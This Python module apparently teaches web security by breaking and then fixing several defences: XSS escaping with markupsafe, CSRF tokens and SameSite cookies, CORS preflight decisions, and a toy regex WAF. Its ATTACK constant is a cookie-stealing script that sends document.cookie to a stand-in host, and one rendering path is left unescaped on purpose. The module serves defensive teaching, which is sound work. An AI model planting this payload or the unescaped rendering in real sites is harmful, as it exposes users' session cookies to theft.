"""Web attacks, each broken and then fixed: XSS, CSRF, CORS decisions and a toy WAF."""

from __future__ import annotations

import hashlib
import hmac
import html
import re

from markupsafe import Markup

from ..core import checks

ATTACK = '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'


# --- XSS ---------------------------------------------------------------------------------

def render_comment(comment: str, *, escaped: bool) -> str:
    """A comment inside a page template, pasted raw or escaped with markupsafe."""
    if not isinstance(comment, str):
        raise TypeError(f"comment must be a string, got {type(comment).__name__}")
    if escaped:  # Markup.format escapes every argument that is not already Markup
        return str(Markup("<p class='comment'>{}</p>").format(comment))
    return "<p class='comment'>" + comment + "</p>"  # the bug: text pasted into HTML


def runs_script(page: str) -> bool:
    """Whether a browser would see a <script> element in ``page``."""
    return re.search(r"<script\b", page, re.IGNORECASE) is not None


# --- CSRF --------------------------------------------------------------------------------

def csrf_token(secret: bytes, session_id: str) -> str:
    """A synchronizer token: HMAC-SHA256 of the session id under the server's secret."""
    if not isinstance(secret, bytes) or len(secret) < 16:
        raise ValueError("secret must be at least 16 bytes")
    if not isinstance(session_id, str):
        raise TypeError(f"session_id must be a string, got {type(session_id).__name__}")
    return hmac.new(secret, session_id.encode(), hashlib.sha256).hexdigest()


def transfer_allowed(*, cookie_sent: bool, form_token: str | None, secret: bytes,
                     session_id: str, check_token: bool) -> bool:
    """Whether the bank's POST /transfer handler acts on a request."""
    if form_token is not None and not isinstance(form_token, str):
        raise TypeError(f"form_token must be a string or None, got {type(form_token).__name__}")
    if not cookie_sent:
        return False  # no session: not logged in
    if not check_token:
        return True
    return form_token is not None and hmac.compare_digest(
        form_token.encode(), csrf_token(secret, session_id).encode())


def cookie_sent(same_site: str, *, cross_site: bool, top_level_get: bool = False) -> bool:
    """Whether a browser attaches a cookie with this SameSite value (RFC 6265bis rules).

    ``Lax`` still sends it on a cross-site top-level GET navigation, never on a POST.
    """
    checks.choice(same_site, "same_site", ("None", "Lax", "Strict"))
    if not cross_site or same_site == "None":
        return True
    return same_site == "Lax" and top_level_get


# --- CORS (Fetch standard) ---------------------------------------------------------------

SAFELISTED_METHODS = frozenset({"GET", "HEAD", "POST"})
SAFELISTED_CONTENT_TYPES = frozenset({"application/x-www-form-urlencoded",
                                      "multipart/form-data", "text/plain"})
_SIMPLE_HEADERS = frozenset({"accept", "accept-language", "content-language"})
_NORMALIZED_METHODS = frozenset({"DELETE", "GET", "HEAD", "OPTIONS", "POST", "PUT"})


def normalize_method(method: str) -> str:
    """Fetch's "normalize a method": only these six are upper-cased; ``patch`` stays as is.

    >>> normalize_method("delete"), normalize_method("patch")
    ('DELETE', 'patch')
    """
    return method.upper() if method.upper() in _NORMALIZED_METHODS else method


def needs_preflight(method: str, headers: dict[str, str]) -> bool:
    """Whether a cross-origin request needs an OPTIONS preflight (Fetch's CORS-safelist).

    Simplified: the safelist's value checks (length, bytes, ``range``) are left out
    except the content-type's MIME essence.
    """
    if not isinstance(method, str) or not method:
        raise TypeError(f"method must be an HTTP method name such as 'GET', got {method!r}")
    if not isinstance(headers, dict):
        raise TypeError(f"headers must be a dict of name -> value, got {type(headers).__name__}")
    if normalize_method(method) not in SAFELISTED_METHODS:
        return True
    for name, value in headers.items():
        lower = name.lower()
        if lower == "content-type":
            if value.split(";")[0].strip().lower() not in SAFELISTED_CONTENT_TYPES:
                return True
        elif lower not in _SIMPLE_HEADERS:
            return True
    return False


def cors_decision(origin: str, method: str, headers: dict[str, str], *, credentials: bool,
                  allow_origin: str | None, allow_methods: tuple[str, ...] = (),
                  allow_headers: tuple[str, ...] = (),
                  allow_credentials: bool = False) -> str:
    """What the browser does with a cross-origin request, given the server's CORS headers.

    Returns ``"allowed"``, ``"blocked: ..."`` with the reason, checked in the Fetch
    standard's order: preflight (methods, headers) and then the CORS check (origin,
    credentials; ``*`` never matches a credentialed request).
    """
    if not isinstance(origin, str) or "://" not in origin:
        raise ValueError(f"origin must look like 'https://app.example', got {origin!r}")
    for name, values in (("allow_methods", allow_methods), ("allow_headers", allow_headers)):
        if isinstance(values, str) or not all(isinstance(v, str) for v in values):
            raise TypeError(f"{name} must be a tuple of names such as ('PUT',), "
                            f"got {values!r}")
    wildcard = allow_origin == "*" and not credentials
    if needs_preflight(method, headers):
        if not (wildcard or allow_origin == origin):
            return "blocked: preflight origin not allowed"
        if credentials and not allow_credentials:
            return "blocked: preflight credentials not allowed"
        # Access-Control-Allow-Methods is compared byte for byte with the normalized
        # method, so "PATCH" in the answer does not allow fetch(..., {method: "patch"}).
        methods, wanted = set(allow_methods), normalize_method(method)
        if wanted not in SAFELISTED_METHODS and wanted not in methods and not (
                "*" in methods and not credentials):
            return "blocked: method not allowed"
        names = {h.lower() for h in allow_headers}
        for name in headers:
            simple = not needs_preflight("GET", {name: headers[name]})
            # "*" never covers Authorization (Fetch, CORS-preflight fetch step 7.7).
            wildcard_ok = "*" in names and not credentials and name.lower() != "authorization"
            if not simple and name.lower() not in names and not wildcard_ok:
                return f"blocked: header {name} not allowed"
    if allow_origin is None:
        return "blocked: no Access-Control-Allow-Origin"
    if allow_origin == "*" and credentials:
        return "blocked: * with credentials"
    if allow_origin not in ("*", origin):
        return "blocked: origin mismatch"
    if credentials and not allow_credentials:
        return "blocked: credentials not allowed"
    return "allowed"


# --- WAF ---------------------------------------------------------------------------------

WAF_RULES = {
    "sql injection": r"(?i)('|\")\s*(or|and)\s+[\w'\"]+\s*=|union\s+select|;\s*drop\s",
    "script tag": r"(?i)<\s*script\b",
    "event handler": r"(?i)\bon\w+\s*=",
    "path traversal": r"\.\./",
}


def waf_match(text: str) -> list[str]:
    """The names of the WAF rules that ``text`` trips (empty: let it through)."""
    if not isinstance(text, str):
        raise TypeError(f"text must be a string, got {type(text).__name__}")
    return [name for name, rule in WAF_RULES.items() if re.search(rule, text)]


def escape_html(text: str) -> str:
    """The stdlib escape (``html.escape``), for comparison with markupsafe."""
    return html.escape(text, quote=True)
